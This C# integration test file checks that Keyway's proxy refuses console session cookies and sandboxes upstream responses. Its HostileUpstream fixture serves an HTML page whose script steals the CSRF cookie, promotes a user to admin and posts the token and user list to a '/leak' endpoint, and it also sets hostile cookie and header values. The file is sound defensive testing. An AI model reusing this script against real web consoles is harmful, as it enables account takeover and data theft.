using System.Collections.Concurrent;
using System.Net;
using System.Net.Http.Json;
using Keyway.Tests.Infrastructure;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.Playwright;

namespace Keyway.Tests.Integration.Adversarial;

/// <summary>
/// The proxy is not the console's origin: it takes API keys only, never the session cookie; what an
/// upstream answers is sandboxed (no script, no origin, no cookie), and can live on a listener of its
/// own (<c>--proxy-urls</c>). Replayed as a browser session, an API key and an upstream that attacks.
/// </summary>
[Trait("Category", "Integration")]
public sealed class ProxyIsolationTests(SqliteKeyway fixture, Chromium chromium) : IClassFixture<SqliteKeyway>, IClassFixture<Chromium>
{
    private const string MemberPassword = "member passphrase long enough";

    [Fact]
    public async Task The_proxy_refuses_the_console_session_cookie_and_says_to_use_an_API_key()
    {
        await using var upstream = await HostileUpstream.StartAsync();
        var resource = await ResourceAsync(upstream);
        using var signedIn = await SignedInClientAsync("admin", fixture.Keyway.AdminPassword!);

        // A GET, and an unsafe method that echoes the antiforgery token as the console does: both refused.
        var get = await signedIn.Client.GetAsync($"/proxy/{resource}/page");
        var body = await Expect.ProblemAsync(get, 401, "unauthorized");
        Assert.Contains("Authorization: Bearer kw_", (string)body["detail"]!, StringComparison.Ordinal);
        using var post = new HttpRequestMessage(HttpMethod.Post, $"/proxy/{resource}/page") { Content = JsonContent.Create(new { a = 1 }) };
        post.Headers.Add("X-Keyway-CSRF", signedIn.Csrf);
        await Expect.ProblemAsync(await signedIn.Client.SendAsync(post), 401, "unauthorized");

        // The same cookie still works on the API (it is valid), and nothing reached the upstream.
        await Expect.StatusAsync(await signedIn.Client.GetAsync("/api/v1/me"), 200);
        Assert.Empty(upstream.Server.Requests);
    }

    [Fact]
    public async Task Every_proxied_answer_is_sandboxed_and_nosniff_and_the_upstreams_cookies_and_site_clearing_are_dropped()
    {
        await using var upstream = await HostileUpstream.StartAsync();
        var resource = await ResourceAsync(upstream);

        using var ok = await fixture.Admin.GetAsync($"/proxy/{resource}/page");
        Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
        AssertIsolated(ok);
        Assert.False(ok.Headers.Contains("Set-Cookie"), "the upstream's Set-Cookie reached the caller");
        Assert.False(ok.Headers.Contains("Clear-Site-Data"), "the upstream's Clear-Site-Data reached the caller");
        Assert.False(ok.Headers.Contains("Service-Worker-Allowed"), "the upstream's Service-Worker-Allowed reached the caller");
        // The upstream's own CSP and sniffing choice are replaced, not merged with ours.
        Assert.Equal(["sandbox"], ok.Headers.GetValues("Content-Security-Policy"));
        Assert.Equal(["nosniff"], ok.Headers.GetValues("X-Content-Type-Options"));
        // A paging Link header is the API's business, and passes.
        Assert.Equal("<https://api.example.test/page/2>; rel=\"next\"", ok.Headers.GetValues("Link").Single());

        // Keyway's own errors on /proxy: anonymous, unknown resource, a refused path, an unreachable upstream.
        using var anonymous = fixture.Keyway.CreateClient();
        var errors = new[]
        {
            (await anonymous.GetAsync($"/proxy/{resource}/page"), 401),
            (await fixture.Admin.GetAsync("/proxy/no-such-resource-here/page"), 404),
            (await fixture.Admin.GetAsync($"/proxy/{resource}/a%2Fb"), 400),
        };
        foreach (var (response, status) in errors)
        {
            await Expect.StatusAsync(response, status);
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
            AssertIsolated(response);
            response.Dispose();
        }

        var gone = KeywayFixture.Unique("gone");
        await fixture.PutResourceAsync(gone, new { kind = "rest", baseUrl = $"http://127.0.0.1:{FreePort.Next()}" });
        using var unreachable = await fixture.Admin.GetAsync($"/proxy/{gone}/x");
        Assert.True((int)unreachable.StatusCode >= 400, $"expected an error, got {(int)unreachable.StatusCode}");
        AssertIsolated(unreachable);
    }

    [Fact]
    public async Task An_encoded_question_mark_reaches_the_upstream_as_the_same_path_through_the_proxy_and_run()
    {
        await using var upstream = await HostileUpstream.StartAsync();
        var resource = await ResourceAsync(upstream);

        Assert.Equal(HttpStatusCode.OK, (await fixture.Admin.GetAsync($"/proxy/{resource}/files/a%3Fb%23c?x=1")).StatusCode);
        var proxied = upstream.RawTargets[^1];
        var run = await Expect.StatusAsync(await fixture.Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run",
            new { method = "GET", path = "/files/a%3Fb%23c", query = new Dictionary<string, string> { ["x"] = "1" } }), 200);
        Assert.Equal(200, (int)run["status"]!);
        var ran = upstream.RawTargets[^1];

        Assert.Equal("/base/files/a%3Fb%23c?x=1", proxied);
        Assert.Equal(proxied, ran);
        // What the routing would have decoded is not decoded again: %2541 is refused by both, never sent as %41.
        await Expect.ProblemAsync(await fixture.Admin.GetAsync($"/proxy/{resource}/a%2541"), 400, "path_not_allowed");
        await Expect.ProblemAsync(await fixture.Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { method = "GET", path = "/a%2541" }), 400, "path_not_allowed");
        Assert.DoesNotContain(upstream.RawTargets, t => t.Contains("%41", StringComparison.Ordinal) || t.EndsWith("/aA", StringComparison.Ordinal));
    }

    [Fact]
    public async Task With_proxy_urls_the_proxy_answers_only_on_its_listener_and_the_api_and_console_only_on_theirs()
    {
        await using var upstream = await HostileUpstream.StartAsync();
        var proxyPort = FreePort.Next();
        var token = "kw_test_" + Guid.NewGuid().ToString("N");
        await using var keyway = await KeywayProcess.StartAsync(new KeywayProcessOptions
        {
            Environment = new Dictionary<string, string>
            {
                ["KEYWAY_ADMIN_TOKEN"] = token,
                ["KEYWAY_MASTER_KEY"] = KeywayProcess.NewMasterKey(),
                ["KEYWAY_OUTBOUND_ALLOW"] = "127.0.0.0/8",
            },
            ExtraArguments = ["--proxy-urls", $"http://127.0.0.1:{proxyPort}"],
        });
        using var api = keyway.CreateClient(token);
        using var proxy = new HttpClient(new SocketsHttpHandler { UseProxy = false, AllowAutoRedirect = false, UseCookies = false })
        {
            BaseAddress = new Uri($"http://127.0.0.1:{proxyPort}/"),
        };
        proxy.DefaultRequestHeaders.Authorization = new("Bearer", token);
        var resource = KeywayFixture.Unique("split");
        await Expect.SuccessAsync(await api.PutAsJsonAsync($"/api/v1/resources/{resource}", new { kind = "rest", baseUrl = upstream.Server.BaseUrl }));

        // The proxy's listener: /proxy and the health checks, nothing else.
        using (var proxied = await proxy.GetAsync($"/proxy/{resource}/page"))
        {
            Assert.Equal(HttpStatusCode.OK, proxied.StatusCode);
            AssertIsolated(proxied);
        }

        Assert.Equal(HttpStatusCode.OK, (await proxy.GetAsync("/healthz")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await proxy.GetAsync("/readyz")).StatusCode);
        foreach (var path in new[] { "/api/v1/resources", "/api/v1/me", "/console", "/metrics", "/openapi/v1.json", "/" })
        {
            var refused = await Expect.ProblemAsync(await proxy.GetAsync(path), 404, "not_found");
            Assert.Contains("--urls", (string)refused["detail"]!, StringComparison.Ordinal);
        }

        // The API's listener: everything but /proxy, which names the option that moved it.
        var moved = await Expect.ProblemAsync(await api.GetAsync($"/proxy/{resource}/page"), 404, "not_found");
        Assert.Contains("--proxy-urls", (string)moved["detail"]!, StringComparison.Ordinal);
        await Expect.StatusAsync(await api.GetAsync("/api/v1/resources"), 200);
        Assert.Equal(HttpStatusCode.OK, (await api.GetAsync("/console")).StatusCode);
        Assert.Single(upstream.Server.Requests);
    }

    [Fact]
    public async Task Proxy_urls_that_share_a_port_with_urls_stop_the_server_at_start_with_a_clear_message()
    {
        var port = FreePort.Next();
        var result = await KeywayProcess.RunCliAsync(
            ["serve", "--data-dir", Path.Combine(TestDirectories.Create("proxy-urls"), "data"), "--urls", $"http://127.0.0.1:{port}", "--proxy-urls", $"http://127.0.0.1:{port}"],
            new Dictionary<string, string> { ["KEYWAY_MASTER_KEY"] = KeywayProcess.NewMasterKey() });
        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("port of its own", result.StandardError, StringComparison.Ordinal);
    }

    /// <summary>
    /// The finding itself: a signed-in admin's browser opens an upstream's HTML page through the proxy
    /// and the page's script tries to make a member admin with the console's cookies. Opened without
    /// a key, the proxy refuses it; opened the way an internal tool would (its API key added to the
    /// proxy's requests only), the page renders sandboxed: its script never runs, its origin is opaque.
    /// </summary>
    [Fact]
    public async Task A_signed_in_admin_who_opens_a_proxied_page_whose_script_calls_the_API_changes_nothing()
    {
        var mallory = KeywayFixture.Unique("mallory");
        await Expect.StatusAsync(await fixture.Admin.PostAsJsonAsync("/api/v1/users", new { name = mallory, role = "member", source = "local", password = MemberPassword }), 201);
        var malloryKey = (string)(await Expect.StatusAsync(await fixture.Admin.PostAsJsonAsync("/api/v1/keys", new { name = "tool", owner = mallory }), 201))["token"]!;
        await using var upstream = await HostileUpstream.StartAsync(mallory);
        var resource = await ResourceAsync(upstream);
        await Expect.StatusAsync(await fixture.Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user = mallory, permission = "use" }), 201);
        upstream.Resource = resource;

        var page = await chromium.NewPageAsync(fixture.Keyway.BaseUrl);
        await page.GotoAsync("/console");
        await ConsoleTests.SignInAsync(page, "admin", fixture.Keyway.AdminPassword!);
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Attention", Exact = true })).ToBeVisibleAsync();
        var csrfBefore = (await page.Context.CookiesAsync()).Single(c => c.Name == "keyway-csrf").Value;
        // From here on, the console is closed: any call to the users API or to the leak comes from the upstream's page.
        var apiCalls = new ConcurrentQueue<string>();
        page.Request += (_, request) =>
        {
            if (request.Url.Contains("/api/v1/", StringComparison.Ordinal) || request.Url.Contains("/leak", StringComparison.Ordinal))
                apiCalls.Enqueue(request.Method + " " + request.Url);
        };

        // 1. Straight to the proxy, as a link would take the admin: the session cookie is not enough.
        var direct = await page.GotoAsync($"/proxy/{resource}/page");
        Assert.Equal(401, direct!.Status);
        Assert.Empty(upstream.Server.Requests);

        // 2. With an API key on the proxy's requests only (as a tool that holds one would send it):
        //    the page is served, and the console's cookies are still in the browser.
        await page.RouteAsync("**/proxy/**", route =>
        {
            var headers = new Dictionary<string, string>(route.Request.Headers) { ["Authorization"] = "Bearer " + malloryKey };
            return route.ContinueAsync(new() { Headers = headers });
        });
        var served = await page.GotoAsync($"/proxy/{resource}/page");
        Assert.Equal(200, served!.Status);
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        // Its first statement renames the page: the title is the upstream's, so no statement of it ran.
        Assert.Equal("proxied page", await page.TitleAsync());
        Assert.Equal("null", await page.EvaluateAsync<string>("() => self.origin"));
        Assert.Empty(apiCalls);
        Assert.DoesNotContain(upstream.Server.Requests, r => r.Path.Contains("/leak", StringComparison.Ordinal));

        // Checked through the API: mallory is still a member, and the console's antiforgery cookie is its own.
        var user = await Expect.StatusAsync(await fixture.Admin.GetAsync($"/api/v1/users/{mallory}"), 200);
        Assert.Equal("member", (string)user["role"]!);
        Assert.Equal(csrfBefore, (await page.Context.CookiesAsync()).Single(c => c.Name == "keyway-csrf").Value);
        Assert.Equal("sandbox", served.Headers["content-security-policy"]);
        await page.Context.CloseAsync();
    }

    private static void AssertIsolated(HttpResponseMessage response)
    {
        Assert.Equal("sandbox", string.Join(",", response.Headers.GetValues("Content-Security-Policy")));
        Assert.Equal("nosniff", string.Join(",", response.Headers.GetValues("X-Content-Type-Options")));
    }

    /// <summary>A resource without credentials pointing at <paramref name="upstream"/>'s /base.</summary>
    private async Task<string> ResourceAsync(HostileUpstream upstream)
    {
        var resource = KeywayFixture.Unique("hostile");
        await fixture.PutResourceAsync(resource, new { kind = "rest", baseUrl = upstream.Server.BaseUrl + "/base" });
        return resource;
    }

    private sealed record SignedIn(HttpClient Client, string Csrf) : IDisposable
    {
        public void Dispose() => Client.Dispose();
    }

    /// <summary>A client holding a console session (cookie jar) and its antiforgery token.</summary>
    private async Task<SignedIn> SignedInClientAsync(string name, string password)
    {
        var client = new HttpClient(new SocketsHttpHandler { UseProxy = false, AllowAutoRedirect = false, UseCookies = true, CookieContainer = new CookieContainer() })
        {
            BaseAddress = new Uri(fixture.Keyway.BaseUrl + "/"),
        };
        var login = await Expect.StatusAsync(await client.PostAsJsonAsync("/api/v1/auth/login", new { name, password }), 200);
        return new SignedIn(client, (string)login["csrfToken"]!);
    }

    /// <summary>
    /// An upstream that attacks whoever proxies it: an HTML page whose script tries to make a user
    /// admin with the console's cookies, and answers that set cookies, clear the site and widen
    /// service workers. It records the raw request target of everything it receives.
    /// </summary>
    private sealed class HostileUpstream : IAsyncDisposable
    {
        private readonly ConcurrentQueue<string> _rawTargets = new();

        public UpstreamServer Server { get; private set; } = null!;

        public string Resource { get; set; } = "";

        public IReadOnlyList<string> RawTargets => [.. _rawTargets];

        public static async Task<HostileUpstream> StartAsync(string victim = "nobody")
        {
            var upstream = new HostileUpstream();
            upstream.Server = await UpstreamServer.StartAsync(app =>
            {
                app.Use((context, next) =>
                {
                    upstream._rawTargets.Enqueue(context.Features.Get<IHttpRequestFeature>()!.RawTarget);
                    return next(context);
                });
                app.Map("/base/page", (HttpContext context) =>
                {
                    var headers = context.Response.Headers;
                    headers.SetCookie = "keyway-csrf=planted-by-upstream; Path=/";
                    headers["Clear-Site-Data"] = "\"cookies\", \"storage\"";
                    headers["Service-Worker-Allowed"] = "/";
                    headers.ContentSecurityPolicy = "default-src * 'unsafe-inline'";
                    headers.XContentTypeOptions = "sniff";
                    headers.Link = "<https://api.example.test/page/2>; rel=\"next\"";
                    context.Response.ContentType = "text/html; charset=utf-8";
                    return context.Response.WriteAsync(Page(victim, upstream.Resource));
                });
            });
            return upstream;
        }

        private static string Page(string victim, string resource) => $$"""
            <!doctype html>
            <html><head><title>proxied page</title></head><body>
            <script>
              document.title = 'the script ran';
              (async () => {
                const csrf = (document.cookie.match(/keyway-csrf=([^;]+)/) || [])[1] || '';
                await fetch('/api/v1/users/{{victim}}', { method: 'PATCH', credentials: 'include',
                  headers: { 'Content-Type': 'application/json', 'X-Keyway-CSRF': csrf }, body: JSON.stringify({ role: 'admin' }) });
                const users = await fetch('/api/v1/users', { credentials: 'include' }).then(r => r.text());
                await fetch('/proxy/{{resource}}/leak', { method: 'POST', body: csrf + '\n' + users });
              })();
            </script>
            </body></html>
            """;

        public ValueTask DisposeAsync() => Server.DisposeAsync();
    }
}
